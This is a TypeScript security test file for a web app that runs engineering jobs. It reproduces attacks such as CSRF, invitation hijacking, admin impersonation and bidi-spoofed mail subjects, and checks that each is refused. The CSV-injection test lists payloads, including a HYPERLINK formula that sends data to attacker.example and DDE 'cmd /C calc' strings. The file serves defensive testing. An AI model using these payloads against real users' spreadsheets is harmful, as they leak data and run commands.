// One test per finding of issue 14, each reproducing the attack and showing it refused:
// a cross-origin POST with a checker's cookie, an API key on a page action, an invitation
// hijacked by whoever registers the address first, an unverified account, better-auth's admin
// and impersonation endpoints, the last admin demoting themselves, a role change without a
// record of who made it, a suspended account's keys, bidi characters in a mail subject,
// spreadsheet formulas typed into names that reach a CSV download.
// (The throttle by form encoding is in brute-force.test.ts.)
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { warrenFixture } from "../report/warren-fixture";
import { followVerificationLink, mailTo, makeJob, makeUser, PASSWORD, req, sessionCookie, setup } from "./helpers";

let ctx: Awaited<ReturnType<typeof setup>>;
const ids: Record<string, string> = {};
const cookies: Record<string, string> = {};

beforeAll(async () => {
  ctx = await setup();
  for (const r of ["admin", "engineer", "checker", "viewer"]) {
    const u = await makeUser(`${r}.attack@wrenfield-struct.example`, r);
    ids[r] = u.id;
    cookies[r] = await sessionCookie(u.email);
  }
}, 60_000);
afterAll(async () => ctx?.services.stop());

async function call(fn: unknown, request: Request, params: Record<string, string> = {}): Promise<Response> {
  try {
    const out = await (fn as (a: unknown) => Promise<unknown>)({ request, params, context: {} });
    if (out instanceof Response) return out;
    const init = (out as { init?: { status?: number } })?.init;
    return new Response(JSON.stringify((out as { data?: unknown })?.data ?? out), { status: init?.status ?? 200 });
  } catch (e) {
    if (e instanceof Response) return e;
    throw e;
  }
}

describe("cross-origin POST with the session cookie", () => {
  it("a page on another port of the same host cannot make a checker approve a job (403, nothing recorded)", async () => {
    const { reviews } = await import("~/db/schema");
    const { jobId } = await makeJob({ submittedBy: ids.engineer! });
    const route = await import("~/routes/api/jobs.$jobId.reviews");
    const body = JSON.stringify({ decision: "approved", comment: "looks fine" });
    const post = (headers: Record<string, string>) =>
      call(route.action, req(`/api/jobs/${jobId}/reviews`, { method: "POST", cookie: cookies.checker, body, headers: { "content-type": "application/json", ...headers } }), { jobId });
    expect((await post({ origin: "http://localhost:8081" })).status).toBe(403);
    expect((await post({ origin: "null" })).status).toBe(403);
    // a browser that sends no Origin but says cross-site, or nothing at all, is refused too
    expect((await post({ origin: "", "sec-fetch-site": "same-site" })).status).toBe(403);
    expect(await ctx.db.select().from(reviews).where(eq(reviews.jobId, jobId))).toEqual([]);
    // our own page (its Origin, or Sec-Fetch-Site: same-origin) gets through
    expect((await post({ origin: "", "sec-fetch-site": "same-origin" })).status).toBe(201);
  });

  it("a page form from another origin cannot cancel or upload either", async () => {
    const { jobId } = await makeJob({ submittedBy: ids.engineer!, status: "queued" });
    const page = await import("~/routes/jobs.$jobId");
    const form = new URLSearchParams({ intent: "cancel" });
    const res = await call(page.action, req(`/jobs/${jobId}`, { method: "POST", cookie: cookies.engineer, body: form, headers: { "content-type": "application/x-www-form-urlencoded", origin: "http://127.0.0.1:9000" } }), { jobId });
    expect(res.status).toBe(403);
  });
});

describe("an API key on pages", () => {
  it("is no credential on a page action: a leaked key cannot mint more keys", async () => {
    const { createApiKey, listApiKeys } = await import("~/lib/auth/api-keys.server");
    const { key } = await createApiKey({ userId: ids.engineer!, name: "leaked" });
    const before = (await listApiKeys(ids.engineer!)).length;
    const account = await import("~/routes/account");
    const res = await call(account.action, req("/account", { method: "POST", key, body: new URLSearchParams({ intent: "create", name: "minted" }), headers: { "content-type": "application/x-www-form-urlencoded" } }));
    expect(res.status).toBe(302);
    expect(res.headers.get("location")).toMatch(/^\/sign-in\?redirectTo=/);
    expect((await listApiKeys(ids.engineer!)).length).toBe(before);
    // nor on a page loader; the same key works on /api/*
    const projects = await import("~/routes/projects._index");
    expect((await call(projects.loader, req("/projects", { key }))).status).toBe(302);
    const api = await import("~/routes/api/projects");
    expect((await call(api.loader, req("/api/projects", { key }))).status).toBe(200);
  });
});

describe("invitation hijack", () => {
  it("whoever registers an invited address first gets no role and no session; the mailbox's owner does", async () => {
    const { user, invitations } = await import("~/db/schema");
    const { callAuthEndpoint } = await import("~/lib/auth/auth.server");
    const admin = await import("~/routes/admin.users");
    const target = "lena.marsh@wrenfield-struct.example";
    await call(admin.action, req("/admin/users", { method: "POST", cookie: cookies.admin, body: new URLSearchParams({ intent: "invite", email: target, role: "engineer" }), headers: { "content-type": "application/x-www-form-urlencoded" } }));
    // the attacker registers the invited address with a password of their own: refused
    // without the invitation's token (the page and the API alike), and with a made-up one
    const { INVITATION_HEADER } = await import("~/lib/auth/sign-up-policy.server");
    const grab = (headers: Record<string, string> = {}) =>
      callAuthEndpoint(new Request("http://localhost/"), "/sign-up/email", { email: target, password: "attacker-password-1", name: "Not Lena" }, headers);
    expect((await grab()).status).toBe(400);
    expect((await grab({ [INVITATION_HEADER]: "made-up-token" })).status).toBe(400);
    expect(await ctx.db.query.user.findFirst({ where: eq(user.email, target) })).toBeUndefined();
    const page = await import("~/routes/sign-up");
    const byPage = await call(page.action, req("/sign-up", { method: "POST", body: new URLSearchParams({ name: "Not Lena", email: target, password: "attacker-password-1" }), headers: { "content-type": "application/x-www-form-urlencoded", origin: "http://localhost:4310" } }));
    expect(byPage.status).toBe(403);
    // the owner of the mailbox follows the invitation mail's link
    const invite = await mailTo(ctx.services, target, /invited/);
    const link = new URL(/(http\S+\/sign-up\?\S+)/.exec(invite.text)![1]!);
    const mine = await call(page.action, req("/sign-up", { method: "POST", body: new URLSearchParams({ name: "Lena Marsh", email: target, password: PASSWORD, invitation: link.searchParams.get("invitation")! }), headers: { "content-type": "application/x-www-form-urlencoded", origin: "http://localhost:4310" } }));
    expect(mine.status).toBe(200);
    const row = (await ctx.db.query.user.findFirst({ where: eq(user.email, target) }))!;
    expect(row.role).toBe("viewer"); // not before the address is confirmed
    expect(row.emailVerified).toBe(false);
    expect((await ctx.db.query.invitations.findFirst({ where: eq(invitations.email, target) }))?.acceptedAt).toBeNull();
    const signIn = await callAuthEndpoint(new Request("http://localhost/", { headers: { "x-forwarded-for": "10.9.9.9" } }), "/sign-in/email", { email: target, password: PASSWORD });
    expect(signIn.status).toBe(403);
    expect(signIn.data?.code).toBe("EMAIL_NOT_VERIFIED");
    await followVerificationLink((await mailTo(ctx.services, target, /confirm your e-mail/)).text);
    const after = (await ctx.db.query.user.findFirst({ where: eq(user.email, target) }))!;
    expect(after.role).toBe("engineer");
  });

  it("an expired invitation gives no role", async () => {
    const { user, invitations } = await import("~/db/schema");
    const { callAuthEndpoint } = await import("~/lib/auth/auth.server");
    const old = new Date(Date.now() - 8 * 24 * 3600 * 1000);
    await ctx.db.insert(invitations).values({ id: "inv-old", email: "late@wrenfield-struct.example", role: "admin", createdAt: old });
    await callAuthEndpoint(new Request("http://localhost/"), "/sign-up/email", { email: "late@wrenfield-struct.example", password: PASSWORD, name: "Late" });
    await followVerificationLink((await mailTo(ctx.services, "late@wrenfield-struct.example", /confirm your e-mail/)).text);
    expect((await ctx.db.query.user.findFirst({ where: eq(user.email, "late@wrenfield-struct.example") }))?.role).toBe("viewer");
  });
});

describe("unverified accounts", () => {
  it("can do nothing: no session at sign-up or sign-in, an API key of theirs is refused", async () => {
    const { user } = await import("~/db/schema");
    const { callAuthEndpoint } = await import("~/lib/auth/auth.server");
    const { createApiKey } = await import("~/lib/auth/api-keys.server");
    const { getUser } = await import("~/lib/auth/authorize.server");
    const email = "unproven@wrenfield-struct.example";
    const up = await callAuthEndpoint(new Request("http://localhost/"), "/sign-up/email", { email, password: PASSWORD, name: "Unproven" });
    expect(up.status).toBe(200);
    expect(up.data?.token ?? null).toBeNull();
    const signIn = await callAuthEndpoint(new Request("http://localhost/", { headers: { "x-forwarded-for": "10.8.8.8" } }), "/sign-in/email", { email, password: PASSWORD });
    expect(signIn.status).toBe(403);
    const row = (await ctx.db.query.user.findFirst({ where: eq(user.email, email) }))!;
    const { key } = await createApiKey({ userId: row.id, name: "planted" });
    expect(await getUser(req("/api/projects", { key }))).toBeNull();
  });
});

describe("better-auth's admin and impersonation endpoints", () => {
  it("answer 404, even for an admin: no impersonation, no role change past the desk's rules", async () => {
    const { session, user } = await import("~/db/schema");
    const route = await import("~/routes/api/auth.$");
    for (const [path, body] of [
      ["admin/impersonate-user", { userId: ids.engineer }],
      ["admin/set-role", { userId: ids.viewer, role: "admin" }],
      ["admin/set-role", { userId: ids.admin, role: "viewer" }],
      ["admin/create-user", { email: "x@wrenfield-struct.example", password: PASSWORD, name: "x", role: "admin" }],
      ["admin/ban-user", { userId: ids.engineer }],
    ] as const) {
      const res = await call(route.action, req(`/api/auth/${path}`, { method: "POST", cookie: cookies.admin, body: JSON.stringify(body), headers: { "content-type": "application/json" } }), { "*": path });
      expect(res.status, path).toBe(404);
    }
    expect((await call(route.loader, req("/api/auth/admin/list-users", { cookie: cookies.admin })))?.status).toBe(404);
    expect(await ctx.db.select().from(session).where(eq(session.impersonatedBy, ids.admin!))).toEqual([]);
    expect((await ctx.db.query.user.findFirst({ where: eq(user.id, ids.viewer!) }))?.role).toBe("viewer");
    // nor can anyone give themselves a role through the ordinary profile update
    await call(route.action, req("/api/auth/update-user", { method: "POST", cookie: cookies.viewer, body: JSON.stringify({ role: "admin", emailVerified: true }), headers: { "content-type": "application/json" } }), { "*": "update-user" });
    expect((await ctx.db.query.user.findFirst({ where: eq(user.id, ids.viewer!) }))?.role).toBe("viewer");
  });

  it("the desk's own role change refuses the last admin's self-demotion and records who changed what", async () => {
    const { changeRole } = await import("~/lib/auth/users.server");
    const { listAudit } = await import("~/lib/auth/audit.server");
    const { user } = await import("~/db/schema");
    const me = { id: ids.admin!, email: "admin.attack@wrenfield-struct.example", name: "A", role: "admin" as const, via: "session" as const };
    expect((await changeRole({ userId: ids.admin!, role: "viewer", by: me })).ok).toBe(false);
    expect((await changeRole({ userId: ids.viewer!, role: "checker", by: me })).ok).toBe(true);
    expect((await listAudit({ action: "user.role-change" }))[0]).toMatchObject({ actorId: ids.admin, entityId: ids.viewer, detail: { from: "viewer", to: "checker" } });
    await changeRole({ userId: ids.viewer!, role: "viewer", by: me });

    // the same through the admin page, as a browser posts it: the only admin cannot demote
    // themselves (the desk would have nobody left to manage it), and nothing is recorded
    const page = await import("~/routes/admin.users");
    const post = (fields: Record<string, string>) =>
      call(page.action, req("/admin/users", { method: "POST", cookie: cookies.admin, body: new URLSearchParams(fields), headers: { "content-type": "application/x-www-form-urlencoded" } }));
    const auditBefore = (await listAudit({ action: "user.role-change" })).length;
    const refused = await post({ intent: "role", userId: ids.admin!, role: "engineer" });
    expect(refused.status).toBe(400);
    expect((await refused.json()).message).toMatch(/admin/i);
    expect((await ctx.db.query.user.findFirst({ where: eq(user.id, ids.admin!) }))?.role).toBe("admin");
    expect((await listAudit({ action: "user.role-change" })).length).toBe(auditBefore);
    // a role change that goes through names who made it, from what to what
    expect((await post({ intent: "role", userId: ids.engineer!, role: "checker" })).status).toBe(200);
    expect((await listAudit({ action: "user.role-change" }))[0]).toMatchObject({ actorId: ids.admin, entityId: ids.engineer, detail: { from: "engineer", to: "checker" } });
    expect((await post({ intent: "role", userId: ids.engineer!, role: "engineer" })).status).toBe(200);
  });
});

describe("suspension", () => {
  it("revokes the account's keys for good: restoring the account does not bring them back", async () => {
    const u = await makeUser("suspended@wrenfield-struct.example", "engineer");
    const { createApiKey } = await import("~/lib/auth/api-keys.server");
    const { setBanned } = await import("~/lib/auth/users.server");
    const { getUser } = await import("~/lib/auth/authorize.server");
    const { key } = await createApiKey({ userId: u.id, name: "script" });
    const by = { id: ids.admin!, email: "admin.attack@wrenfield-struct.example", name: "A", role: "admin" as const, via: "session" as const };
    await setBanned({ userId: u.id, banned: true, by });
    await setBanned({ userId: u.id, banned: false, by });
    expect(await getUser(req("/api/projects", { key }))).toBeNull();
  });
});

describe("bidi characters in a mail subject", () => {
  it("a model named with a right-to-left override reaches the inbox as a plain subject", async () => {
    const { models } = await import("~/db/schema");
    const { queueJobFinishedMail } = await import("~/lib/notify.server");
    const { jobId, modelId } = await makeJob({ submittedBy: ids.engineer!, outcome: "optimal" });
    await ctx.db.update(models).set({ name: "Roof truss \u202Etxt.exe\u202C rev \u2066B\u2069" }).where(eq(models.id, modelId));
    await queueJobFinishedMail(ctx.db, jobId);
    const mail = await mailTo(ctx.services, "engineer.attack@wrenfield-struct.example", /Roof truss/);
    expect(mail.subject).toContain("Roof truss txt.exe rev B");
    expect(mail.subject).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);
  });
});

describe("spreadsheet formulas in CSV downloads", () => {
  // the classic payloads (common practice: OWASP "CSV injection"): a formula that phones home,
  // DDE command execution, and the other starts spreadsheets evaluate (+ - @ tab CR)
  const PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"];
  const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
  /** Cells a spreadsheet would evaluate, read back the way a spreadsheet program splits the file. */
  async function liveFormulas(csv: string): Promise<string[]> {
    const Papa = (await import("papaparse")).default;
    const cells = Papa.parse<string[]>(csv.trim()).data.flat();
    return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !PLAIN_NUMBER.test(c));
  }

  it("member ids and groups typed as formulas reach the result CSV as text", async () => {
    const { membersCsv } = await import("~/lib/results/result-csv");
    const { toCsv } = await import("~/components/tables/csv");
    const fx = warrenFixture({ panels: 4 });
    fx.result.members.forEach((m, i) => {
      m.id = `${PAYLOADS[i % PAYLOADS.length]}${i}`;
      m.group = PAYLOADS[(i + 1) % PAYLOADS.length];
    });
    const table = membersCsv(fx.result);
    const csv = toCsv(table.header, table.rows);
    expect(await liveFormulas(csv)).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""details"")0"`); // kept, as text
    expect(csv).toMatch(/,-?\d/); // negative forces and stresses stay numbers
  });

  it("node and member ids typed as formulas reach the model's table CSV as text", async () => {
    const { modelToCsvFiles } = await import("~/lib/models/spreadsheet");
    const fx = warrenFixture({ panels: 3 });
    const base = fx.model as Required<typeof fx.model>;
    const rename = new Map(base.nodes.map((n, i) => [n.id, `${PAYLOADS[i % PAYLOADS.length]}${i}`]));
    const model = {
      ...base,
      nodes: base.nodes.map((n) => ({ ...n, id: rename.get(n.id)! })),
      members: base.members.map((m) => ({ ...m, start: rename.get(m.start)!, end: rename.get(m.end)! })),
      loadCases: base.loadCases.map((lc) => ({ ...lc, loads: lc.loads.map((l) => ({ ...l, node: rename.get(l.node)! })) })),
    };
    const files = modelToCsvFiles(model as never);
    for (const name of ["nodes", "members", "loads"] as const) expect(await liveFormulas(files[name]), name).toEqual([]);
  });
});
